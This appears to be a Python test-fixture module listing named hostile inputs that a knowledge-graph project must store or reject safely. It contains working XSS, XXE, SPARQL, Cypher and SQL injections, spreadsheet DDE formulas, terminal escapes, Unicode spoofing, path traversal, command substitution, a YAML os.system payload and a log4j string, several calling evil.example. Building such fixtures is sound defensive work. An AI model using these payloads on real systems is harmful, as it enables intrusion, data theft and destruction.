"""Texts that do harm wherever text is taken for anything else, by what they aim at.

No part of this project may do more with one than keep it, show it, or refuse it with a message.
"""

RUN = "window.hacked = (window.hacked || 0) + 1"  # what a page must never do
HOST = "https://evil.example"  # whom nothing may ask
LONG = 100_000

HTML = {
    "script": f"<script>{RUN}</script>",
    "script end": f"</script><script>{RUN}</script>",
    "script comment": f"<!--<script>{RUN}</script>-->",
    "handler": f"<img src=x onerror='{RUN}'>",
    "attribute": f"\" onmouseover=\"{RUN}\" autofocus onfocus='{RUN}' x='",
    "svg": f"<svg onload='{RUN}'><animate onbegin='{RUN}' attributeName=x dur=1s></svg>",
    "frame": f"\"><iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    "body": f"</textarea></title></style><body onload='{RUN}' onpointermove='{RUN}'>",
    "link": f"<link rel=stylesheet href={HOST}/x.css><base href={HOST}/>",
    "style": f"<style>@import '{HOST}/y.css'; body {{ background: url({HOST}/z.png) }}</style>",
    "refresh": f"<meta http-equiv=refresh content='0;url={HOST}/'>",
    "anchor": f"<a href='javascript:{RUN}'>href</a>",
    "javascript url": f"javascript:{RUN}",
    "hidden javascript url": f"\x01java\tscript:{RUN}",
    "data url": f"data:text/html,<script>parent.{RUN}</script>",
    "jinja": "{{ 7 * 7 }}{% raw %}{{ self.__init__.__globals__ }}{# x #}",
    "js template": f"`${{{RUN}}}` ' + ({RUN}) + \"",
    "prototype": "__proto__ constructor toString",
    "cdata": f"]]><![CDATA[<x/>]]><script>{RUN}</script>",
    "doctype": "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>",
    "element": '"/></node><node id="x"><data key="d0">forged</data></node>',
    "entities": f"&lt;script&gt;{RUN}&lt;/script&gt; &#60;b&#x3e; &amp;amp; &NoSuch; &#0;",
}
SPARQL = {
    "drop": "} ; DROP ALL ; #",
    "iri end": "> <x:y> <z:z",
    "iri": "https://diplograph.example/entity/russia> a <x:forged",
    "turtle end": '""" .\n<x:forged> a <x:y> . """',
    "quote end": '" . entity:x kg:arms entity:y . "',
    "single quote end": "' } UNION { ?s ?p ?o } #",
    "service": f"SERVICE <{HOST}/sparql> {{ ?s ?p ?o }}",
    "load": f"LOAD <{HOST}/x.ttl> INTO GRAPH <x:g>",
    "escape": "\\u0022 . \\U0000003E \\\\",
    "ending backslash": "ends in a backslash\\",
    "directive": f"@prefix kg: <x:> . @base <{HOST}/> .",
    "blank node": "_:b0",
    "context": f'{{"@context": "{HOST}/", "@id": "x:forged"}}',
    "placeholder": "$actor $supports ?x",
    "own iri": "https://diplograph.example/claim/x",
    "link iri": "https://diplograph.example/link/x",
}
CYPHER = {
    "pattern": "'})-[:X]->() //",
    "backticks": "`) DETACH DELETE n //``",
    "parameter": "$props {name: 'x'} :Label",
    "load csv": f"' LOAD CSV FROM '{HOST}/x.csv' AS row //",
    "sql": "' OR 1=1; DROP TABLE claims; --",
}
SPREADSHEET = {
    "hyperlink": f'=HYPERLINK("{HOST}?x="&A1,"click")',
    "sum": "@SUM(1+1)*cmd|' /C calc'!A0",
    "dde": "+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "tab first": "\t=1+1",
    "return first": "\r=1+1",
    "cell end": 'x","=1+1"\r\n=1+1,"',
    "wide equals": "＝1+1",
}
TERMINAL = {
    "colour": "\x1b[31mred\x1b[2J\x1b[1;1H",
    "title": "\x1b]0;owned\x07",
    "hyperlink": f"\x1b]8;;{HOST}\x1b\\safe.example\x1b]8;;\x1b\\",
    "device": '\x1bP$q"p\x1b\\ \x1b_apc\x1b\\ \x1b[6n \x1b[5i',
    "bell": "ring\x07\x07",
    "c1": "\x9b31mred \x90x\x9c \x85next",
    "backspace": "true\b\b\b\bfalse\x7f",
    "overwrite": "error\rfine ",
    "separators": "a\x1cb\x1db\x1eb\x1fb\x0bb\x0cb",
    "console markup": "[bold red]x[/] [link=https://evil.example]y[/link] :bomb:",
}
UNICODE = {
    "right to left": "\u202egnp.exe\u202c",
    "isolates": "\u2066a\u2067b\u2068c\u2069\u200f\u061c\u200e",
    "open embedding": "\u202b\u202d never closed",
    "zero width": "Rus\u200bsi\u200d\u2060a",
    "only zero width": "\u200b\u2060",
    "nul": "nul\x00 after",
    "line separators": "one\u2028two\u2029three",
    "byte order mark": "\ufeffRussia\ufeff",
    "noncharacters": "a\ufffe\uffff\ufdd0\U0001fffe\U0010ffffz",
    "private use": "\ue000\U000f0000",
    "astral": "\U0001f468\u200d\U0001f469\u200d\U0001f467 \U00010348 \U0001f3f4",
    "decomposed": "Co\u0302te d'Ivoire \u1100\u1161 \u212b A\u0327\u0323\u0301",
    "stacked marks": "Z" + "\u0300\u0316\u0337" * 40,
    "right to left script": "\u0631\u0648\u0633\u064a\u0627 \u0640 \u200f123",
    "case": "İstanbul ẞ ß ﬁ ſ K",
}
PATHS = {
    "parents": "../../etc/passwd",
    "inner parents": "a/../../b/./c",
    "dots": "..",
    "absolute": "/etc/passwd",
    "drive": "C:\\x\\..\\y",
    "unc": "\\\\evil.example\\share\\x",
    "file url": "file:///etc/passwd",
    "percent": "%2E%2E%2F%2e%2e%2f%00 %zz %",
    "home": "~root $HOME $(id) `id` ; id | id & id",
    "option": "--ontology=/etc/passwd",
    "device": "CON:aux.ttl",
    "wildcards": "**/*?[a-z]",
}
FORMATS = {
    "printf": "%s %n %x %(x)s %d",
    "format": "{0} {} {self.__class__} {x!r} {{",
    "json": '", "negated": true, "x": "\\',
    "json end": '"}\n{"subject": {"written": "forged"}}\n{"',
    "yaml": "!!python/object/apply:os.system ['id']",
    "brat": "x\nR9\tarms Arg1:T1 Arg2:T2\nT9\tState 0 1\tx",
    "log4j": "${jndi:ldap://evil.example/x}",
    "newlines": "one\n\ntwo\r\nthree\rfour\n",
    "null word": "null",
    "number": "1e9999",
    "number-like": "007",
    "long": "x" * LONG,
    "long words": "Сирия " * (LONG // 6),
}
BLANK = {"blanks": "   ", "line feed": "\n", "white space": "\t\r\n\u00a0\u2003"}

GROUPS = {
    "html": HTML,
    "sparql": SPARQL,
    "cypher": CYPHER,
    "spreadsheet": SPREADSHEET,
    "terminal": TERMINAL,
    "unicode": UNICODE,
    "paths": PATHS,
    "formats": FORMATS,
    "blank": BLANK,
}
PAYLOADS = {f"{group}: {name}": text for group, texts in GROUPS.items() for name, text in texts.items()}
NAMES = {name: text for name, text in PAYLOADS.items() if text.strip()}  # those that can be a name or an id
SHORT = {name: text for name, text in NAMES.items() if len(text) < LONG / 2}
